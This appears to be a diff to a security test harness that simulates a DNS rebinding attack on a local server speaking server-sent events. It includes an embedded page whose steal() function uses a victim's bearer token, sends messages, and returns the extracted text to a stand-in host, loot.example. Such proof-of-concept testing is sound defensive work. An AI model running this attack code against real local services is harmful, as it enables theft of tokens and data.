@@ -33,8 +33,16 @@ PAGE = """<!doctype html>
 const given = GIVEN;
 const headers = { Authorization: `Bearer ${given.token}`, "Content-Type": "application/json" };
 
+async function ask(path, options) {
+    // A browser opens some connections in advance. Those still lead to the attacker's site.
+    for (;;) {
+        const answer = await fetch(path, options);
+        if (!answer.headers.has("Attacker")) return answer;
+    }
+}
+
 async function steal() {
-    const answer = await fetch("/sse", { headers });
+    const answer = await ask("/sse", { headers });
     if (!answer.ok) return `GET /sse: ${answer.status}`;
     const reader = answer.body.pipeThrough(new TextDecoderStream()).getReader();
     let text = "";
@@ -49,7 +57,7 @@ async function steal() {
     const path = await find(/^event: endpoint\\ndata: (.*)\\n/m);
     for (const message of given.messages) {
         const body = JSON.stringify(message);
-        const sent = await fetch(path, { method: "POST", headers, body });
+        const sent = await ask(path, { method: "POST", headers, body });
         if (!sent.ok) return `POST /message: ${sent.status}`;
     }
     return "read " + await find(/"text": ?"(.*?)"/);
@@ -85,7 +93,6 @@ class Attacker:
         given = {"token": server.alice, "messages": messages}
         self.page = PAGE.replace("GIVEN", json.dumps(given)).encode()
         self.page_is_loaded = False
-        self.visitors: set[StreamWriter] = set()
         self.loot: asyncio.Future[str] = asyncio.get_running_loop().create_future()
 
     async def __aenter__(self) -> "Attacker":
@@ -106,30 +113,25 @@ class Attacker:
         return self.site.sockets[0].getsockname()
 
     async def serve_site(self, reader: StreamReader, writer: StreamWriter) -> None:
-        """GET is for the page, POST brings what it has got."""
-        self.visitors.add(writer)
+        """GET / is for the page. At loot.example arrives what it has got."""
         with suppress(asyncio.IncompleteReadError, ConnectionError):
             head = (await reader.readuntil(b"\r\n\r\n")).decode().lower()
             body = b""
             if head.startswith("get / "):
                 body = self.page
                 self.page_is_loaded = True
-                # Browsers connect twice, in advance. On that connection the site would still
-                # be this one.
-                for other in self.visitors - {writer}:
-                    other.close()
-            elif head.startswith("post "):
+            elif "host: loot.example" in head:
                 length = int(head.partition("content-length:")[2].split()[0])
                 loot = await reader.readexactly(length)
                 if not self.loot.done():
                     self.loot.set_result(loot.decode())
             # Closed, so that for the next request the browser has to ask for the address.
             writer.write(
-                b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n"
+                b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"
+                b"Attacker: yes\r\nConnection: close\r\n"
                 b"Content-Length: %d\r\n\r\n%b" % (len(body), body)
             )
         writer.close()
-        self.visitors.discard(writer)
 
     async def serve_proxy(self, reader: StreamReader, writer: StreamWriter) -> None:
         """SOCKS version 5 (RFC 1928), as much as a browser needs: connect to a name."""
